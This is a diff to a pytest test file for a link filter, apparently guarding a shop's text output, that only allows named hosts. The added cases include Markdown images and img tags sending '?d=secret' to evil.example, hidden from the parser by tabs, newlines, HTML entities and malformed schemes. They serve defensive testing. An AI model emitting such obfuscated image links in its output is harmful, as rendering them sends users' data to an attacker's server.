@@ -30,7 +30,22 @@ STOLEN = (
     "https://127.0.0.1:80/",
     "https://[::1]/",
 )
+READ_AGAIN = (
+    "![x](https://shop.example\\@evil.example/?d=secret)",
+    "![x](https://shop.example\\.evil.example/?d=secret)",
+    "<img src='https://shop.example&Tab;.evil.example/?d=secret'>",
+    "<img src='https://shop.example\n.evil.example/?d=secret'>",
+    "![x](https://shop.example&#9;.evil.example/?d=secret)",
+    "<img src='https://shop.example\u0334/?d=secret'>",
+)
+"""A named host, until Markdown or a browser has read it."""
 IMAGES = (
+    "<img src='http:evil.example/?d=secret'>",
+    "<img src='https:/evil.example/?d=secret'>",
+    "<img src='/&Tab;/evil.example/?d=secret'>",
+    "<img src='ht&NewLine;tp:evil.example/?d=secret'>",
+    "![x](/&#9;/evil.example/?d=secret)",
+    "!\\[x](https://evil.example) ![x](http\\://evil.example/?d=secret)",
     "![x](https://evil.example/?d=secret)",
     "! [x](//evil.example)",
     "![x][1]\n[1]: https://evil.example/?d=secret",
@@ -47,6 +62,9 @@ FINE = (
     "a/b, 5:/7 // no: 1.2.3, see point 3: yes",
     "https://shop.example/plans?x=1.",
     "(https://shop.example)",
+    "https://shop.example\nhttps://shop.example/plans\tand so on",
+    "[plans](https://shop.example/plans\n'all of them')\nhttps: is safe, see https://shop.example/a\\_b",
+    "[1]: https://shop.example/plans\n[2]: https://shop.example/prices\n\nMore (in brackets).",
     "[plans](https://shop.example/plans)",
     "![logo](https://SHOP.example:443/logo.png)",
     "Pay at https://pay.example/SO-1?a=1, please.",
@@ -54,7 +72,7 @@ FINE = (
 )
 
 
-@pytest.mark.parametrize("words", STOLEN + IMAGES)
+@pytest.mark.parametrize("words", STOLEN + READ_AGAIN + IMAGES)
 def test_a_flow_that_names_hosts_shows_no_other(words: str):
     """However the address is written; a host that only begins or ends like one is another."""
     assert foreign_link(words, HOSTS, HELD)
